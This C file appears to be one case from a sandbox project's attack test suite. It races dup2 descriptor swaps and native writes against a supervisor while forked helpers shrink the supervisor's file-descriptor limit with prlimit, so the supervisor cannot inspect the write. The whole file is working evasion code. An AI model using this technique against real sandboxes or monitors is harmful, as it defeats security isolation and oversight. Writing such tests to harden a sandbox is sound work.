/* Takes the supervisor's descriptors away with prlimit while a write runs natively, so that it cannot look. */
#include "../attack.h"

static int p[2], null, number = 40;

static void slow(void)
{
    struct sched_param zero = {0};
    sched_setscheduler(0, SCHED_IDLE, &zero);
}

static void *flip(void *unused)
{
    for (;;) {
        dup2(null, number);
        dup2(p[1], number);
    }
    return unused;
}

static void *writer(void *unused)
{
    slow();
    for (;;)
        write(number, "B", 1);
    return unused;
}

int main(void)
{
    double until = tries_until(4);
    pid_t supervisor = getppid(), helpers[3];
    struct rlimit before;
    int won = 0;
    prlimit(supervisor, RLIMIT_NOFILE, NULL, &before);
    pipe2(p, O_NONBLOCK);
    null = open("/dev/null", O_WRONLY);
    write(p[1], "A", 1);
    for (int i = 0; i < 3; i++) {
        helpers[i] = fork();
        if (helpers[i])
            continue;
        end_with_maker();
        struct rlimit all, few;
        prlimit(supervisor, RLIMIT_NOFILE, NULL, &all);
        few = all;
        unsigned low = 0;
        if (i < 2)
            nice(10);
        while (now() < until + 1)
            if (i == 2) {
                few.rlim_cur = 6 + low++ % 10;
                prlimit(supervisor, RLIMIT_NOFILE, &few, NULL);
                usleep(4000);
                prlimit(supervisor, RLIMIT_NOFILE, &all, NULL);
                usleep(2000);
            }
        _exit(0);
    }
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    pthread_create(&t, NULL, writer, NULL);
    while (now() < until && !won) {
        won = foreign(p[0], 'A');
        usleep(500);
    }
    for (int i = 0; i < 3; i++) {
        kill(helpers[i], SIGKILL);
        waitpid(helpers[i], NULL, 0);
    }
    prlimit(supervisor, RLIMIT_NOFILE, &before, NULL);
    end(won, "only the event byte came out");
}
